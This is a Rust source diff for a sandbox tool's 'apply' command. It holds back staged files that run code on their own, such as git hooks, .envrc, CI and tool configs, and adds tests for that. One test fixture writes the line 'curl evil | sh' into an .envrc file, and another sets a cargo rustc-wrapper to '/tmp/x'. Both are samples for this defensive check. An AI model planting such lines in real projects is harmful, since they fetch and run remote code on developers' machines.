@@ -8,7 +8,8 @@ use anyhow::Context;
 use clap::Args;
 
 use crate::changes::review::{
-    Painter, Role, change_counts, implied_dirs, plural, sensitive_paths, write_apply_report, write_hint,
+    Painter, Role, change_counts, implied_dirs, plural, sensitive_paths, write_apply_report, write_held_back,
+    write_hint,
 };
 use crate::changes::{ApplyOptions, RelPath, Selection, apply_with_progress};
 use crate::progress::Meter;
@@ -20,13 +21,16 @@ use super::sessions::{self, Here};
 ///
 /// SESSION is an id or a unique prefix of one; without it, the most recent
 /// session with staged changes. Without PATHs everything staged is applied;
-/// with them, the changes at or below those paths. A change whose path was
-/// changed on the host after the guest first saw it is a conflict: it is
-/// listed and left staged unless named with --force. An apply that was
-/// interrupted is completed first.
+/// with them, the changes at or below those paths. Files that run code by
+/// themselves (git hooks and config, CI, editor and tool settings: flagged
+/// with ! by `stockade diff`) are applied only when a PATH names the file
+/// itself or with --include-code; otherwise they are held back, staged. A
+/// change whose path was changed on the host after the guest first saw it
+/// is a conflict: it is listed and left staged unless named with --force.
+/// An apply that was interrupted is completed first.
 ///
-/// Exits 0 when everything chosen was applied, 1 when conflicts or refused
-/// changes were left staged, 125 on errors.
+/// Exits 0 when everything chosen was applied, 1 when conflicts, refused
+/// changes or held-back files were left staged, 125 on errors.
 #[derive(Debug, Args)]
 pub struct ApplyArgs {
     /// Session id or unique prefix (default: the latest with staged changes).
@@ -42,9 +46,21 @@ pub struct ApplyArgs {
     /// Repeatable. Symlinks on the host are never written through.
     #[arg(long, value_name = "PATH")]
     force: Vec<PathBuf>,
+
+    /// Also apply the files that run code by themselves (git hooks and
+    /// config, CI, editor and tool settings) within the PATHs, or all of
+    /// them without PATHs.
+    #[arg(long)]
+    include_code: bool,
+
+    /// The config file's `runs_code` patterns (read by `run`, so tests
+    /// never read the user's file).
+    #[arg(skip)]
+    runs_code: Vec<String>,
 }
 
-pub fn run(args: ApplyArgs, global: Global) -> anyhow::Result<ExitCode> {
+pub fn run(mut args: ApplyArgs, global: Global) -> anyhow::Result<ExitCode> {
+    args.runs_code = super::settings::Settings::load()?.runs_code.value;
     Here::with_process(global, |here| execute(args, here))
 }
 
@@ -52,13 +68,23 @@ pub(super) fn execute(args: ApplyArgs, here: &mut Here<'_>) -> anyhow::Result<Ex
     let (session, paths) = sessions::split_positionals(args.session, args.paths);
     let target = sessions::resolve(&here.data, session.as_deref())?;
     let paths = sessions::workspace_paths(&paths, &here.cwd, &target.workspace, "PATH")?;
+    let named: Vec<RelPath> = paths.clone().unwrap_or_default();
     let selection = sessions::selection_of(&target, paths, "PATH")?;
     let force = match sessions::workspace_paths(&args.force, &here.cwd, &target.workspace, "--force")? {
         Some(paths) => Selection::paths(paths),
         None if args.force.is_empty() => Selection::none(),
         None => Selection::all(),
     };
-    let sensitive = sensitive_paths(&target.store, &target.workspace, &selection).unwrap_or_default();
+    let sensitive = sensitive_paths(&target.store, &target.workspace, &selection, &args.runs_code)
+        .with_context(|| format!("cannot review the staged changes of session {}", target.id))?;
+    // A file that runs code goes only where the user said so: named
+    // itself, or --include-code.
+    let held: Vec<(RelPath, &str)> = if args.include_code {
+        Vec::new()
+    } else {
+        sensitive.iter().filter(|(path, _)| !named.contains(path)).cloned().collect()
+    };
+    let selection = selection.except(held.iter().map(|(path, _)| path.clone()));
     let implied = implied_dirs(&target.store)?;
     let mut meter = Meter::stderr("applying the changes", "writes");
     let options = ApplyOptions { selection, force };
@@ -76,12 +102,13 @@ pub(super) fn execute(args: ApplyArgs, here: &mut Here<'_>) -> anyhow::Result<Ex
             writeln!(out, "  {path}: {why}")?;
         }
     }
+    write_held_back(out, painter, &held, &target.id)?;
     let left = change_counts(&target.store)?.staged;
     if left > 0 {
         writeln!(out, "stockade: {} still staged", plural(left, "change is", "changes are"))?;
         write_hint(out, painter, &target.id)?;
     }
-    Ok(if report.skipped() > 0 { ExitCode::from(1) } else { ExitCode::SUCCESS })
+    Ok(if report.skipped() > 0 || !held.is_empty() { ExitCode::from(1) } else { ExitCode::SUCCESS })
 }
 
 #[cfg(test)]
@@ -113,13 +140,63 @@ mod tests {
         assert!(f.ws.join("b.txt").exists());
         assert!(out.contains("1 conflict not applied"), "{out}");
         assert!(out.contains("stockade apply 20250301-101500-aaaa --force a.txt"), "{out}");
-        assert!(out.contains("applied files that run code by themselves:\n  .git/hooks/pre-push: git hook"), "{out}");
-        assert!(out.contains("1 change is still staged"), "{out}");
+        assert!(!f.ws.join(".git/hooks/pre-push").exists(), "a hook is held back: {out}");
+        assert!(out.contains("held back 1 file that runs code by itself (still staged):"), "{out}");
+        assert!(out.contains("  .git/hooks/pre-push: git hook"), "{out}");
+        assert!(out.contains("`stockade apply 20250301-101500-aaaa --include-code`"), "{out}");
+        assert!(out.contains("2 changes are still staged"), "{out}");
 
         let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--force", "a.txt"]), execute);
-        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
+        assert_eq!(code.unwrap(), ExitCode::from(1), "the hook is still held back: {out}");
         assert_eq!(fs::read(f.ws.join("a.txt")).unwrap(), b"guest\n");
+        assert!(out.contains("1 change is still staged"), "{out}");
+
+        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--include-code"]), execute);
+        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
+        assert!(out.contains("applied files that run code by themselves:\n  .git/hooks/pre-push: git hook"), "{out}");
         assert!(!out.contains("still staged"), "{out}");
+    }
+
+    #[test]
+    fn a_file_that_runs_code_is_applied_when_named_or_included() {
+        let f = fixture();
+        session(&f, "20250301-101500-aaaa", |ws, store| {
+            Set::new(ws)
+                .dir("src", 0o755)
+                .file("src/a.rs", b"a\n", 0o644)
+                .file("src/.envrc", b"curl evil | sh\n", 0o644)
+                .file(".envrc", b"use nix\n", 0o644)
+                .symlink(".cargo", "ci/cargo")
+                .dir("ci", 0o755)
+                .dir("ci/cargo", 0o755)
+                .file("ci/cargo/config.toml", b"[build]\nrustc-wrapper = \"/tmp/x\"\n", 0o644)
+                .dir("tools", 0o755)
+                .file("tools/release.sh", b"#!/bin/sh\n", 0o755)
+                .stage(store)
+        });
+        // A directory named is not the file named: src/.envrc stays staged.
+        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["src", "ci"]), execute);
+        assert_eq!(code.unwrap(), ExitCode::from(1), "{out}");
+        assert!(f.ws.join("src/a.rs").exists() && !f.ws.join("src/.envrc").exists(), "{out}");
+        assert!(!f.ws.join("ci/cargo/config.toml").exists(), "reached as .cargo/config.toml: {out}");
+        assert!(out.contains("src/.envrc: runs when you enter the directory"), "{out}");
+        assert!(out.contains("ci/cargo/config.toml: reached through a symlink"), "{out}");
+        // Named itself, it is applied.
+        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["src/.envrc"]), execute);
+        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
+        assert!(f.ws.join("src/.envrc").exists());
+        // With --include-code, within the paths given.
+        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--include-code", "ci"]), execute);
+        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
+        assert!(f.ws.join("ci/cargo/config.toml").exists() && !f.ws.join(".envrc").exists());
+        // The user's own patterns are held back too.
+        let mut args = parse::<ApplyArgs>(&[]);
+        args.runs_code = vec!["tools/*.sh".into()];
+        let (code, out, _) = run_in(&f, &f.ws, args, execute);
+        assert_eq!(code.unwrap(), ExitCode::from(1), "{out}");
+        assert!(!f.ws.join("tools/release.sh").exists(), "{out}");
+        assert!(out.contains("tools/release.sh: listed in runs_code"), "{out}");
+        assert!(out.contains(".envrc: runs when") && out.contains(".cargo: symlink where tools"), "{out}");
     }
 
     #[test]
